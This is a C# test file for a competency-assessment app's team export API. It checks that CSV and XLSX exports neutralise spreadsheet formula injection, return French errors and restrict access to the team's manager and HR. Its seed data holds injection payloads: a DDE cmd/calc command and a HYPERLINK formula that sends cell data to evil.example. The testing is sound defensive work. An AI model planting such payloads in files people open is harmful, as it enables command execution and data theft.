using System.Net;
using System.Text;
using CompetencyTeams.App.Tests.Auth;
using CompetencyTeams.App.Tests.Features.HrConsole;
using CompetencyTeams.App.Tests.Features.Questionnaire;
using CompetencyTeams.Domain.Assessments;
using CompetencyTeams.Domain.Campaigns;
using CompetencyTeams.Domain.Frameworks;
using CompetencyTeams.Domain.People;
using CompetencyTeams.Domain.Profiles;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using Microsoft.Extensions.DependencyInjection;
using static CompetencyTeams.App.Tests.Auth.TabOrganisation;

namespace CompetencyTeams.App.Tests.Features.Exports;

[Collection(TabApiCollection.Name)]
public sealed class ExportApiTests(TabApiFixture fixture)
{
    /// <summary>Comments a spreadsheet would run: a DDE command, a formula, a leading @ and +, and a tab.</summary>
    private const string Dde = "=cmd|' /C calc'!A0";
    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")";
    private const string AtSum = "@SUM(1+1)*cmd|' /C calc'!A0";

    private readonly TabCalls _api = new(fixture.Client, fixture.DevChannel);

    [Fact]
    public async Task Csv_ManagerOfTheTeam_GetsOneRowPerPersonAndCompetencyWithFormulasNeutralised()
    {
        var campaign = await SeedAsync();

        using var response = await _api.SendAsync(HttpMethod.Get, $"/api/tab/campaigns/{campaign}/teams/{TeamA}/export?format=csv", Caller.ManagerA);
        var bytes = await response.Content.ReadAsByteArrayAsync();
        var text = Encoding.UTF8.GetString(bytes);
        var lines = text.Split("\r\n", StringSplitOptions.RemoveEmptyEntries);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        Assert.Equal($"{campaign}-{TeamA}.csv", response.Content.Headers.ContentDisposition?.FileNameStar ?? response.Content.Headers.ContentDisposition?.FileName);
        Assert.Equal([0xEF, 0xBB, 0xBF], bytes[..3]);
        Assert.StartsWith("\uFEFFcampaign_id,team_id,person_id,person_name", text, StringComparison.Ordinal);
        Assert.Equal(1 + (3 * QuestionnaireTestData.Framework.CompetencyCount), lines.Length);
        Assert.Contains(",'=cmd|' /C calc'!A0,", text, StringComparison.Ordinal);
        Assert.Contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Cliquez\"\")\"", text, StringComparison.Ordinal);
        Assert.Contains("'@SUM(1+1)", text, StringComparison.Ordinal);
        Assert.DoesNotContain(",=", text, StringComparison.Ordinal);
        Assert.DoesNotContain(",@", text, StringComparison.Ordinal);
        Assert.DoesNotContain(AgentB1, text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Xlsx_Hr_OpensWithOpenXmlAndEveryScriptCommentIsInertText()
    {
        var campaign = await SeedAsync();

        using var response = await _api.SendAsync(HttpMethod.Get, $"/api/tab/campaigns/{campaign}/teams/{TeamA}/export?format=xlsx", Caller.Hr);
        await using var stream = new MemoryStream(await response.Content.ReadAsByteArrayAsync());
        using var document = SpreadsheetDocument.Open(stream, false);
        var sheet = document.WorkbookPart!.WorksheetParts.Single().Worksheet;
        var rows = sheet.Descendants<Row>().ToList();
        var cells = sheet.Descendants<Cell>().ToList();
        var texts = cells.Where(c => c.DataType?.Value == CellValues.InlineString).Select(c => c.InnerText).ToList();

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", response.Content.Headers.ContentType?.MediaType);
        Assert.Empty(sheet.Descendants<CellFormula>());
        Assert.Equal(1 + (3 * QuestionnaireTestData.Framework.CompetencyCount), rows.Count);
        Assert.Contains(Dde, texts);
        Assert.Contains(Hyperlink, texts);
        Assert.Contains(AtSum, texts);
        foreach (var payload in cells.Where(c => c.InnerText is Dde or Hyperlink or AtSum))
        {
            Assert.Equal(CellValues.InlineString, payload.DataType!.Value);
            Assert.Null(payload.CellFormula);
        }

        var required = cells.Where(c => c.CellReference!.Value!.StartsWith('M') && c.CellReference.Value != "M1").ToList();
        Assert.NotEmpty(required);
        Assert.All(required, c => Assert.Equal(CellValues.Number, c.DataType!.Value));
    }

    [Theory]
    [InlineData("pdf")]
    [InlineData("")]
    public async Task UnknownFormat_Returns400InFrench(string format)
    {
        using var response = await _api.SendAsync(HttpMethod.Get, $"/api/tab/campaigns/{CampaignId}/teams/{TeamA}/export?format={format}", Caller.ManagerA, locale: "fr-FR");

        var detail = await TabCalls.ProblemAsync(response, HttpStatusCode.BadRequest, "invalid");
        Assert.Contains("choisissez csv ou xlsx", detail, StringComparison.Ordinal);
    }

    [Fact]
    public async Task UnknownCampaign_Returns404()
    {
        using var response = await _api.SendAsync(HttpMethod.Get, $"/api/tab/campaigns/nope/teams/{TeamA}/export?format=csv", Caller.Hr);

        await TabCalls.ProblemAsync(response, HttpStatusCode.NotFound, "not-found");
    }

    public static TheoryData<Caller, bool> Matrix() => new()
    {
        { Caller.Agent, false },
        { Caller.ManagerA, true },
        { Caller.ManagerB, false },
        { Caller.Hr, true },
        { Caller.Nobody, false },
    };

    [Theory]
    [MemberData(nameof(Matrix))]
    public async Task Export_Caller_OnlyTheTeamsManagerAndHrGetTheFile(Caller caller, bool allowed)
    {
        using var response = await _api.SendAsync(HttpMethod.Get, $"/api/tab/campaigns/{CampaignId}/teams/{TeamA}/export?format=xlsx", caller);

        Assert.Equal(allowed ? HttpStatusCode.OK : HttpStatusCode.Forbidden, response.StatusCode);
    }

    /// <summary>A campaign of its own where team A's agents submitted with comments a spreadsheet would run.</summary>
    private async Task<string> SeedAsync()
    {
        var services = fixture.Services;
        var ct = CancellationToken.None;
        var campaign = QuestionnaireTestData.RunningNow(HrTestData.Unique("export"), timeShares: false);
        var profile = (await services.GetRequiredService<IJobProfileRepository>().GetAsync("profile-afr", ct))!.Value;
        await services.GetRequiredService<ICampaignRepository>().SaveAsync(campaign, null, ct);
        var people = await services.GetRequiredService<IPersonRepository>().GetManyAsync(TeamAAgents, ct);
        await services.GetRequiredService<IAssignmentRepository>().AddMissingAsync(
            campaign.Id, [.. people.Select(p => Assignment.Create(campaign.Id, p.ObjectId, p.TeamId, p.ManagerId, p.ProfileId))], ct);
        var context = new AssessmentContext(campaign, QuestionnaireTestData.Framework, profile);
        var comments = new[] { Dde, Hyperlink, AtSum };
        var clock = TimeProvider.System;
        for (var i = 0; i < people.Count; i++)
        {
            var assessment = Assessment.Start(context, people[i], clock);
            foreach (var block in context.Blocks)
            {
                var answers = context.CompetenciesOf(block).ToDictionary(c => c.Code, c => LevelAnswer.Of(1), StringComparer.Ordinal);
                assessment = assessment.AnswerBlock(context, block.Code, answers, comments[i], clock);
            }

            await services.GetRequiredService<IAssessmentRepository>().SaveAsync(assessment.Submit(context, clock), null, ct);
        }

        return campaign.Id;
    }
}
